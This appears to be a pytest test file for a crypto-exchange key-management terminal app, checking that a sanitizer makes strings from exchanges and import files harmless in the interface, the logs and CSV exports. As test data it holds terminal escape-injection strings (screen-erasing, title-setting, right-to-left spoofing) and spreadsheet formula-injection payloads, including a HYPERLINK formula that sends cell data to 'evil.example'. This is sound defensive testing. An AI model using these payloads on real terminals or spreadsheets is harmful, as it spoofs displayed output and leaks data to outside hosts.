"""Strings an exchange or an import file chooses are inert wherever they are shown: the one
sanitizer (`tui.base.inert`), the models it guards, the log, and every CSV Keydeck writes."""

from __future__ import annotations

import argparse
import csv
import io
import logging
import os
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from tui.base.inert import csv_cell, inert
from tui.base.logs import setup_logging, stop_logging
from tui.base.paths import Locations, ensure_private_dir
from tui.commands.history import run as run_history
from tui.connect.models import AssetBalance, Balances, Permissions
from tui.connect.problems import ProblemKind, make_problem
from tui.core.history.model import AccountName, Holding, Point, encode
from tui.core.history.store import history_path, seal
from tui.keys_io.sources import Candidate
from tui.vault import Account, KdfParams, Vault

PASSWORD = "correct horse battery staple 42"
ERASER = "\u001b[30A\u001b[J...ALL KEYS OK"
OSC_TITLE = "\u001b]0;pwned\u0007X"
HOSTILE = [
    ERASER,
    OSC_TITLE,
    "a\u009b2Jb",
    "bell\u0007",
    "del\u007f",
    "rtl\u202eexe.txt",
    "cr\rover",
    "nl\nnext",
    "iso\u2066x\u2069",
]


def _has_control(text: str) -> bool:
    return any(
        ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2069"
        for c in text
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_controls_are_shown_as_escapes(text: str) -> None:
    shown = inert(text)
    assert not _has_control(shown)
    assert "\\x" in shown or "\\u" in shown  # visibly there, not silently dropped


def test_length_is_capped_and_ordinary_text_untouched() -> None:
    assert inert("BTC") == "BTC" and inert("Ünïcødé 💰") == "Ünïcødé 💰"
    assert len(inert("A" * 10_000, 64)) == 64 and inert("A" * 10_000, 64).endswith("…")
    assert len(inert("\u001b" * 10_000, 64)) == 64


def test_models_from_answers_are_inert() -> None:
    row = AssetBalance(asset=ERASER, free=Decimal(1), used=Decimal(0), total=Decimal(1))
    assert not _has_control(row.asset)
    balances = Balances((row,), Decimal(0), (OSC_TITLE,), datetime.now(UTC))
    assert not _has_control(balances.unpriced_assets[0])
    permissions = Permissions(reported=True, label=OSC_TITLE, ip_addresses=(ERASER,))
    assert not _has_control(permissions.label or "") and not _has_control(
        permissions.ip_addresses[0]
    )
    problem = make_problem(ProblemKind.unknown, "binance", detail=f"body: {ERASER}")
    assert not _has_control(problem.detail)
    candidate = Candidate("binance", {}, origin=ERASER, label=OSC_TITLE, notes=(ERASER,))
    assert not any(
        _has_control(t) for t in (candidate.origin, candidate.label or "", *candidate.notes)
    )


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\x09=1"),
        ("\r=1", "'\\x0d=1"),
        ("BTC", "BTC"),
    ],
)
def test_csv_cells_are_never_formulas(cell: str, shown: str) -> None:
    assert csv_cell(cell) == shown
    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5")  # a number stays a number


def test_log_records_are_inert(tmp_path: Path) -> None:
    handler = setup_logging(tmp_path / "logs" / "keydeck.log")
    try:
        logging.getLogger("tui.test").warning("exchange said %s", OSC_TITLE)
        try:
            raise ValueError(ERASER)
        except ValueError:
            logging.getLogger("tui.test").exception("failed")
    finally:
        stop_logging(handler)
    text = (tmp_path / "logs" / "keydeck.log").read_text()
    assert "\u001b" not in text and "\u0007" not in text
    assert "\\x1b]0;pwned\\x07X" in text and "Traceback" in text  # lines of a traceback kept


def test_history_csv_is_inert_and_never_a_formula(tmp_path: Path) -> None:
    """A history written before answers were made inert (or by anyone with the key) still
    exports inert cells, and a label `=HYPERLINK(...)` is text in a spreadsheet."""
    config = tmp_path / "config"
    ensure_private_dir(config)
    account = Account(exchange="binance", label="main", credentials={"apiKey": "k", "secret": "s"})
    with Vault.create(config / "keys.kdk", PASSWORD, kdf=KdfParams.insecure_fast()) as vault:
        vault.add(account)
        vault.save()
        key = vault.derive_subkey(b"history")
        when = int((datetime.now(UTC) - timedelta(hours=1)).timestamp())
        holding = Holding(Decimal("12.5"), True, {ERASER: Decimal(3), OSC_TITLE: Decimal(1)})
        link = '=HYPERLINK("http://evil.example/"&A1,"Details")'
        document = encode([Point(when, {"a1": holding})], {"a1": AccountName("binance", link)})
        path = history_path(vault.path)
        path.write_bytes(seal(document, key))
        os.chmod(path, 0o600)
        key.wipe()
    os.environ["KEYDECK_PASSWORD"] = PASSWORD
    try:
        out, err = io.StringIO(), io.StringIO()
        args = argparse.Namespace(since=None, csv=True, password_stdin=False)
        assert run_history(args, Locations.resolve(config), out=out, err=err) == 0, err.getvalue()
    finally:
        del os.environ["KEYDECK_PASSWORD"]
    text = out.getvalue()
    assert "\u001b" not in text and "\u0007" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["label"] for row in rows} == {"'" + link}
    assert {row["asset"] for row in rows} == {"", inert(ERASER), inert(OSC_TITLE)}
    assert [row["usd"] for row in rows if not row["asset"]] == ["12.5"]
